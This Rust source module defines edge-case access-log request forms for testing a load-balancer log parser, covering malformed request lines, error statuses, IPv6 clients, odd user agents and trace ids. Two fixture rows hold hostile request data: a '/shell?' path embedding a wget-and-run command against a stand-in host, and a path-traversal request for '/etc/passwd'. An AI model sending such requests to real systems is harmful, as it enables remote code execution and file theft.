//! The odd lines: every form that real load balancers and real clients have been seen to produce.
//!
//! A parser that was only shown well-formed traffic fails in its first week. Each row here takes an
//! ordinary request to one route and changes a few things about it; rows come up about once in
//! 30,000 requests each, rarely enough not to disturb any average. Sources: the table of odd forms in
//! the AWS documentation of the access log, and lines that users have published in bug reports.
//!
//! Not here: lines with fewer or more than 34 fields and lines cut short. One load balancer writes
//! one number of fields; the older forms belong into the parser's own tests.

use super::client::Protocol;
use super::outcome::Ending;

/// One odd request: which route it was meant for, and what is odd about it.
#[derive(Debug)]
pub struct Edge {
    /// What it stands for, for a test that fails on it.
    #[cfg_attr(not(test), expect(dead_code, reason = "read by the tests only"))]
    pub name: &'static str,
    /// The pattern of the route that an ordinary request would have gone to.
    pub pattern: &'static str,
    /// What is different.
    pub odds: &'static [Odd],
}

/// One thing that is different in an odd request.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Odd {
    /// How it ends.
    Ends(Ending),
    /// Field 1.
    Speaks(Protocol),
    /// Method and path (with `{name}` placeholders) instead of the route's.
    Asked(&'static str, &'static str),
    /// Field 13 exactly so; then what nginx makes of it: method and URI.
    Logged(&'static str, &'static str, &'static str),
    /// The load balancer could not read the request: no agent, no TLS, no trace id, no domain.
    Unread,
    /// Field 4.
    Client(&'static str),
    /// Field 5, and 26 unless that is odd too.
    Target(&'static str),
    /// Fields 26 and 27.
    Targets(&'static str, &'static str),
    /// Field 14 as the client sent it.
    Agent(&'static [u8]),
    /// Field 14 exactly so.
    AgentLogged(&'static [u8]),
    /// Field 18.
    TraceId(&'static str),
    /// Field 19.
    Domain(&'static str),
    /// Field 23.
    Actions(&'static str),
    /// Field 25.
    Error(&'static str),
    /// Fields 28 and 29.
    Classified(&'static str, &'static str),
    /// Fields 31 to 33.
    Transformed(&'static str, &'static str, &'static str),
}

macro_rules! edges {
    ($($name:literal $pattern:literal $($odd:expr),+;)*) => {
        &[$(Edge { name: $name, pattern: $pattern, odds: &[$($odd),+] }),*]
    };
}

/// All odd forms.
pub static EDGES: &[Edge] = {
    use Ending::{
        Answered, Blocked, ClientGone, Fixed, LambdaInvalid, LoginFailed, NoHealthyTarget, ProtocolMismatch,
        Redirected, Refused, RuleError, TargetClosed, TargetTimeout, Upgraded,
    };
    use Odd::{
        Actions, Agent, AgentLogged, Asked, Classified, Client, Domain, Ends, Error, Logged, Speaks, Target,
        Targets, TraceId, Transformed, Unread,
    };
    edges! {
    // Requests that could not be read.
    "nothing read, TLS" "/" Ends(Refused(400)), Unread, Logged("- - - ", "", "");
    "nothing read, host known" "/" Ends(Refused(400)), Unread, Speaks(Protocol::Http),
        Logged("- http://shop-1234567890.eu-central-1.elb.amazonaws.com:80- -", "", "");
    "nothing read, version empty" "/" Ends(Refused(400)), Unread, Speaks(Protocol::Http),
        Logged("- http://shop.example.com:80- ", "", "");
    "nothing read, yet answered" "/" Ends(Answered(200)),
        Logged("- https://shop.example.com:443-/ ", "", "/");
    "no version" "/" Ends(Answered(404)),
        Logged("GET https://shop.example.com:443/no-version -", "GET", "/no-version");
    "version with a space after it" "/" Ends(Answered(200)), Classified("Acceptable", "NonCompliantVersion"),
        Logged("GET https://shop.example.com:443/old-client HTTP/1.0 ", "GET", "/old-client");
    "URL without a path" "/" Ends(Answered(200)),
        Logged("OPTIONS https://shop.example.com:443 HTTP/2.0", "OPTIONS", "/");
    "URL without port and path" "/" Ends(Answered(200)),
        Logged("OPTIONS https://shop.example.com HTTP/2.0", "OPTIONS", "/");
    "method that is none" "/" Ends(Refused(400)), Logged("--location https://example.com/ HTTP/2.0", "", "");

    // Methods and paths.
    "method of a VPN client" "/" Ends(Refused(400)),
        Asked("SSTP_DUPLEX_POST", "/sra_%7BBA195980-CD49-458b-9E23-C84EE0ADCD75%7D/");
    "method TRACE" "/" Ends(Refused(405)), Asked("TRACE", "/");
    "method PROPFIND" "/" Ends(Answered(405)), Asked("PROPFIND", "/dav/{word}");
    "spaces in the path" "/" Ends(Answered(404)), Classified("Acceptable", "SpaceInUri"),
        Asked("GET", "/shell?cd+/tmp;wget+ probe.example.org/{word};sh+/tmp/{word}");
    "quotes and backslashes in the query" "/search" Ends(Answered(200)),
        Asked("GET", "/search?q=\"{word}\"&path=c:\\x");
    "bytes beyond ASCII in the path" "/" Ends(Answered(404)), Asked("GET", "/caf\u{e9}/{slug}");
    "a path of 16 KB" "/search" Ends(Refused(414)), Asked("GET", "/search?q={long}");
    "a double slash and dots" "/" Ends(Answered(404)), Classified("Ambiguous", "AmbiguousUri"),
        Asked("GET", "//assets/../..//etc/passwd");
    "redirected with spaces" "/catalog" Ends(Redirected), Speaks(Protocol::Http),
        Classified("Acceptable", "SpaceInUri"), Asked("GET", "/catalog?q=oak table&page={page}");

    // Statuses of the load balancer itself.
    "408 body never came" "/login" Ends(Refused(408));
    "413 body too large" "/cart/items" Ends(Refused(413));
    "460 client gone" "/cart" Ends(ClientGone);
    "463 too many forwarders" "/cart" Ends(Refused(463));
    "464 protocol mismatch" "/api/v1/products/{id}" Ends(ProtocolMismatch);
    "501 transfer encoding" "/cart/items" Ends(Refused(501)),
        Classified("Severe", "UndefinedTransferEncodingSemantics");
    "505 version" "/" Ends(Refused(505));
    "000 HTTP/2 went away" "/cart" Ends(Refused(0)), Speaks(Protocol::H2);
    "561 identity provider" "/orders" Ends(LoginFailed(561)), Error("AuthUserinfoEpRequestFailed");
    "401 login state" "/orders" Ends(LoginFailed(401)), Error("AuthInvalidStateParam");
    "403 firewall" "/search" Ends(Blocked(403));
    "429 firewall, custom status" "/login" Ends(Blocked(429));
    "firewall away, let through" "/cart" Ends(Answered(200)),
        Actions("waf-failed,forward"), Error("WAFConnectionTimeout");
    "500 rules failed" "/cart" Ends(RuleError);
    "500 rewrite failed" "/go/{slug}" Ends(RuleError), Transformed("-", "-", "TransformReplaceError");
    "502 Lambda" "/assets/app.{hash}.js" Ends(LambdaInvalid);
    "502 by the target" "/cart" Ends(Answered(502));
    "502 target closed" "/api/v1/orders" Ends(TargetClosed);
    "503 fixed" "/api/v1/exports/{date}.csv" Ends(Fixed(503));
    "503 no target" "/api/v1/orders" Ends(NoHealthyTarget);
    "504 timeout" "/api/v1/recommendations/{id}" Ends(TargetTimeout);
    "400 ambiguous body" "/login" Ends(Refused(400)), Classified("Severe", "BothTeClPresent");

    // Connections and types.
    "WebSocket without TLS" "/ws/notifications" Ends(Upgraded), Speaks(Protocol::Ws);
    "gRPC" "/api/v1/products/{id}" Ends(Answered(200)),
        Speaks(Protocol::Grpcs), Asked("POST", "/shop.Inventory/Reserve");
    "IPv6 without brackets" "/cart" Ends(Answered(200)),
        Client("2001:db8:1::7:50123"), Target("fd00:1:2::9:8080");
    "IPv6 with brackets" "/cart" Ends(Answered(200)), Client("[2001:db8::7]:50123"), Target("[fd00::9]:8080");
    "client without a port" "/cart" Ends(Answered(200)), Client("203.0.113.7");
    "two targets tried" "/cart" Ends(Answered(200)), Target("10.0.2.11:8080"),
        Targets("10.0.1.11:8080 10.0.2.11:8080", "502 200");

    // Agents, trace ids, names.
    "agent empty" "/cart" AgentLogged(b"");
    "agent missing" "/cart" AgentLogged(b"-");
    "agent with quotes and backslashes" "/cart" Agent(b"\"Mozilla/5.0\" \\(x\\)");
    "agent that is no UTF-8" "/cart" Agent(b"\xEC\x97\x90\xFF\x00");
    "agent with eight-digit escapes" "/cart" AgentLogged(b"\\x00000022evil\\x00000022");
    "agent with backslash and quote" "/cart" AgentLogged(b"Bot/1.0 (\\\"weird\\\" agent)");
    "agent with a raw byte" "/cart" AgentLogged(b"Bot/2.0 \xA7 raw");
    "trace id with self and more" "/cart"
        TraceId("Self=1-67891233-12456789abcdef0123456789;Root=1-67891233-abcdef012345678912345678;CalledFrom=app");
    "trace id made up by the client" "/cart" TraceId("Root=bad value; x=\\x22");
    "trace id missing" "/cart" TraceId("-");
    "domain is a star" "/cart" Domain("*");
    "domain begins with a space" "/cart" Domain(" shop.example.com");
    "domain is an address" "/cart" Domain("192.0.2.12:443");
    "domain in capitals" "/cart" Domain("SHOP.Example.COM");
    "actions empty" "/cart" Actions("");
    "actions of a later version" "/cart" Actions("waf,jwt-validation,forward");
    }
};

/// One getter per oddity: each looks for its variant among the few odds of an edge.
macro_rules! getters {
    ($($(#[$doc:meta])* $name:ident: $variant:ident($($value:ident),+) -> $type:ty;)*) => {
        impl Edge {
            $($(#[$doc])* pub fn $name(&self) -> Option<$type> {
                self.odds.iter().find_map(|&odd| match odd {
                    Odd::$variant($($value),+) => Some(($($value),+)),
                    _ => None,
                })
            })*
        }
    };
}

getters! {
    /// How the request ends.
    ending: Ends(ending) -> Ending;
    /// Field 1.
    protocol: Speaks(protocol) -> Protocol;
    /// Method and path template.
    asked: Asked(method, path) -> (&'static str, &'static str);
    /// Field 13 as it is logged, then nginx's method and URI.
    logged: Logged(alb, method, uri) -> (&'static str, &'static str, &'static str);
    /// Field 4.
    client: Client(client) -> &'static str;
    /// Field 5.
    target: Target(target) -> &'static str;
    /// Fields 26 and 27.
    targets: Targets(list, statuses) -> (&'static str, &'static str);
    /// Field 14 as it was sent.
    agent: Agent(agent) -> &'static [u8];
    /// Field 14 as it is logged.
    agent_logged: AgentLogged(agent) -> &'static [u8];
    /// Field 18.
    trace_id: TraceId(id) -> &'static str;
    /// Field 19.
    domain: Domain(domain) -> &'static str;
    /// Field 23.
    actions: Actions(actions) -> &'static str;
    /// Field 25.
    error_reason: Error(reason) -> &'static str;
    /// Fields 28 and 29.
    classification: Classified(class, reason) -> (&'static str, &'static str);
    /// Fields 31 to 33.
    transformed: Transformed(host, uri, status) -> (&'static str, &'static str, &'static str);
}

impl Edge {
    /// True when the load balancer could not read the request.
    pub fn is_unread(&self) -> bool {
        self.odds.contains(&Odd::Unread)
    }
}

#[cfg(test)]
mod tests {
    use super::super::listener::Listener;
    use super::super::shop::ROUTES;
    use super::*;

    #[test]
    fn every_odd_request_names_a_route_of_the_shop() {
        for edge in EDGES {
            assert!(ROUTES.iter().any(|route| route.pattern == edge.pattern), "{}", edge.name);
        }
    }

    #[test]
    fn another_path_would_have_come_to_the_same_rule() {
        for edge in EDGES {
            let Some((_, path)) = edge.asked() else { continue };
            let route = ROUTES.iter().find(|route| route.pattern == edge.pattern).unwrap();
            let rule = |path| Listener::Port443.rule_for(route.host, path).priority;
            assert_eq!(rule(path), rule(route.pattern), "{}", edge.name);
        }
    }
}
